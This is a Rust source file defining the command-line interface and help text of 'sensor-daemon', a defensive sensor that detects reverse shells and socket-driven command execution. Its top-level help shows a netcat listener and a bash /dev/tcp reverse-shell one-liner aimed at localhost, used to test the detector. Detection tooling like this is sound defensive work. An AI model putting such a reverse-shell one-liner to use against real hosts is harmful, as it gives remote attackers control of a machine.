//! The command line: one file a subcommand, `reporting` for what several of them share, `sensor` for what runs live. `--help` is
//! documentation.

mod check_config;
mod close;
mod completions;
mod console;
mod delivery;
mod doctor;
mod enrichment;
mod exceptions;
mod explain;
mod findings;
mod outputs;
mod record;
mod replay;
mod reporting;
mod run;
mod stored;
mod table;

use std::{
    io::{self, Write as _},
    process::ExitCode,
};

use clap::{CommandFactory as _, Parser, Subcommand};

use crate::model::{Text, VERSION};

/// Reports when a network peer takes control of a program on this host: reverse shells, bind shells, and UNIX commands
/// run through a socket.
///
/// For every program that starts, the sensor asks the kernel what its standard input and output are. If they are pipes, it finds the
/// processes at the other ends. So the name of the shell and the tool that connected it do not matter. One takeover is one
/// finding, and the sensor updates it until the takeover ends.
#[derive(Debug, Parser)]
#[command(name = "sensor-daemon", version = VERSION, max_term_width = 100, propagate_version = true)]
#[command(after_help = "\
First steps:
  sensor-daemon doctor    checks that this host has what the sensor needs
  sensor-daemon run       watches; findings go to standard output, diagnostics to standard error

Then start a reverse shell to yourself in another terminal:
  nc -lp 4444 &
  bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")]
struct Cli {
    /// Write more diagnostics to standard error: -v for debug messages, -vv also those of the kernel side. RUST_LOG wins over it
    #[arg(short, long, action = clap::ArgAction::Count, global = true)]
    verbose: u8,
    #[command(subcommand)]
    command: Command,
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Watch this host and write findings to standard output until told to stop
    ///
    /// On a terminal, findings are text for people; otherwise each is one JSON object on one line. --output, --format and the
    /// configuration file change that. The command line wins over the file. The first line of a finding comes at once. As the
    /// takeover goes on, further lines come with the same `finding.name`; the last one says that it has ended. Diagnostics go to
    /// standard error.
    ///
    /// At start the sensor reads the configuration file once and tests itself. It refuses to run if the file is wrong or if it
    /// does not see its own child. Under systemd (Type=notify) it reports readiness after the test. It also reports takeovers
    /// that are under way already. On SIGTERM and SIGINT it writes the last state of open findings and exits with status 0. It exits
    /// with status 1 if nobody reads its standard output any more.
    Run(run::Arguments),
    /// Watch like `run`, and record what the sensor judges, for `replay`
    ///
    /// The recording is one file of JSON lines: each program that was started on a pipe, terminal or connection, its arguments,
    /// and what was open at that time. Arguments can hold passwords, so only the file's owner may read it. Bytes that
    /// went over connections are not recorded.
    ///
    /// The file grows by a few hundred bytes to some kilobytes for each program that is judged. If it can't be written any
    /// further, for example because the disk is full, the sensor says so once and goes on watching.
    #[command(after_help = "\
Try an exception before you put it into force:
  sensor-daemon record today.jsonl > findings.jsonl         as root; press ^C when the work is done
  sensor-daemon replay today.jsonl --config ./config.toml   as any user; shows what would be reported")]
    Record(record::Arguments),
    /// Judge a recording: show what would be reported under this configuration
    ///
    /// This needs neither root nor the machine that was recorded. Under the same settings, the findings are byte for byte those
    /// that `run` writes. Names of users in the configuration file are looked up on this machine.
    ///
    /// A recording holds only what the sensor followed at that time. To record everything, use --min-severity low and disable
    /// the exceptions.
    #[command(after_help = "\
Examples:
  sensor-daemon replay today.jsonl --format human
  sensor-daemon replay today.jsonl --config ./config.toml | jq -r .finding.description
  zstd -dc today.jsonl.zst | sensor-daemon replay -")]
    Replay(replay::Arguments),
    /// List the findings that the sensor has kept
    ///
    /// Reads the sensor's record, whether the sensor runs or not. It shows the newest state of each finding, ordered by the time of
    /// the last change. The first column is the beginning of the id; give it to `explain`.
    #[command(after_help = "\
Examples:
  sensor-daemon findings --state open
  sensor-daemon findings --since 2h --severity high
  sensor-daemon findings --peer 203.0.113.7 --format json | jq -r .finding.description
  sensor-daemon findings --follow")]
    Findings(findings::Arguments),
    /// Close a finding that is dealt with: its state becomes INACTIVE, and every output gets that
    ///
    /// A takeover that has merely ended stays ACTIVE until somebody closes the finding. A closed finding whose takeover goes on
    /// stays closed, unless its severity rises: then it is reopened. Works while the sensor runs or when it does not.
    #[command(after_help = "\
Examples:
  sensor-daemon close 3f2a91c0 --reason 'Penetration test, ticket 4711'
  sensor-daemon findings --state closed")]
    Close(close::Arguments),
    /// Show for each output whether it takes findings, how many wait for it, and why
    ///
    /// Reads the sensor's record, as `findings` does. WAITING counts the states of findings that the output has not taken yet. The
    /// sensor keeps them for it. Exits 0 if all outputs take findings, 1 otherwise.
    #[command(after_help = "\
Examples:
  sensor-daemon outputs
  sensor-daemon outputs --format json | jq -r 'select(.state != \"ok\") | .reason'")]
    Outputs(outputs::Arguments),
    /// Tell the whole story of a finding: what happened, how, to what, how bad it is, and what to do now
    ///
    /// One screen shows the verdict and its evidence, the chain from the peer to the shell, the process tree, the commands with
    /// their times, how the process is confined (! marks a risk), related findings, and where the logs are. Below it are commands to
    /// copy: they stop the takeover, collect evidence and cut the peer off. If the takeover may be innocent, they begin with
    /// a look at it. `explain` itself runs none of them.
    #[command(after_help = "\
Examples:
  sensor-daemon explain 3f2a91c0
  sensor-daemon explain 3f2a91c0 --format html > finding.html     for the ticket
  sensor-daemon explain 3f2a91c0 --format json | jq -r '.steps[].commands[]'")]
    Explain(explain::Arguments),
    /// Check each prerequisite, and say what is missing, what that costs and what to do
    ///
    /// Each line begins with ok, degraded (the sensor runs and sees less; the line says what it does not see) or missing (the
    /// sensor does not run). `doctor` loads the sensor's programs into the kernel for a moment and attaches none of them. It can run
    /// beside a sensor. Exits 0 if the sensor can run here, 1 if not.
    Doctor(doctor::Arguments),
    /// List what is never reported: the built-in exceptions and those of the configuration file, with their reasons
    ///
    /// An exception describes a takeover that is meant to be: a login through sshd, `kubectl exec`, the jobs of a CI runner. Each
    /// is shown with its conditions. If all of them hold, nothing is reported. This command runs nothing and changes nothing.
    ///
    /// If a finding is ordinary work on your hosts, add an exception to /etc/sensor-daemon/config.toml; docs/exceptions.md
    /// describes each field. If a built-in exception is too wide for your hosts, disable it there:
    /// disable_exceptions = ["x11-forwarding"]
    #[command(after_help = "\
Examples:
  sensor-daemon exceptions
  sensor-daemon exceptions --config ./config.toml
  sensor-daemon exceptions --format json | jq -r '.[] | select(.disabled) | .id'")]
    Exceptions(exceptions::Arguments),
    /// Check a configuration file before a sensor reads it: print OK, or everything that is wrong with it
    ///
    /// Each problem is one line on standard error, FILE:LINE: what is wrong; what to do. Exits 0 if there is none, 1 otherwise.
    /// `run` refuses such a file with the same words. Run this on the host that the file is for, because names of users
    /// are looked up.
    #[command(after_help = "\
A file to begin with:
  min_severity = \"medium\"
  output = [\"journald\", \"file=/var/log/sensor-daemon/findings.json\"]

  [[exception]]
  id = \"nightly-backup\"
  reason = \"The backup server's agent runs rsync on the connection it opens.\"
  binary = \"/usr/bin/rsync\"
  peer = \"10.1.0.0/16\"")]
    CheckConfig(check_config::Arguments),
    /// Write the completion script of a shell to standard output
    #[command(after_help = "\
Examples:
  sensor-daemon completions bash > /etc/bash_completion.d/sensor-daemon
  sensor-daemon completions zsh > /usr/local/share/zsh/site-functions/_sensor-daemon
  sensor-daemon completions fish > ~/.config/fish/completions/sensor-daemon.fish")]
    Completions(completions::Arguments),
    /// Write the manual pages into a directory, one for each subcommand
    #[command(after_help = "\
Examples:
  sensor-daemon man /usr/local/share/man/man1")]
    Man(completions::ManArguments),
}

/// Parses the command line and does what it says.
#[must_use]
pub fn main() -> ExitCode {
    let cli = Cli::parse();
    console::start_diagnostics(cli.verbose);
    let result = match cli.command {
        Command::Run(arguments) => run::run(&arguments, cli.verbose >= 2),
        Command::Record(arguments) => record::record(&arguments, cli.verbose >= 2),
        Command::Replay(arguments) => replay::replay(&arguments),
        Command::Findings(arguments) => findings::findings(&arguments),
        Command::Close(arguments) => close::close(&arguments),
        Command::Outputs(arguments) => outputs::outputs(&arguments),
        Command::Explain(arguments) => explain::explain(&arguments),
        Command::Doctor(arguments) => doctor::doctor(&arguments),
        Command::Exceptions(arguments) => exceptions::exceptions(&arguments),
        Command::CheckConfig(arguments) => check_config::check_config(&arguments),
        Command::Completions(arguments) => completions::completions(&arguments, Cli::command()),
        Command::Man(arguments) => completions::man(&arguments, Cli::command()),
    };
    result.unwrap_or_else(|error| {
        // One line for each thing that was wrong, and no escape of a foreign byte.
        let chain = error.chain().map(ToString::to_string).collect::<Vec<_>>().join(": ");
        for line in chain.lines() {
            // A closed standard error is no reason to die differently.
            let _ = writeln!(io::stderr(), "sensor-daemon: {}", Text::from(line).for_terminal());
        }
        ExitCode::FAILURE
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_line_is_consistent() {
        Cli::command().debug_assert();
    }
}
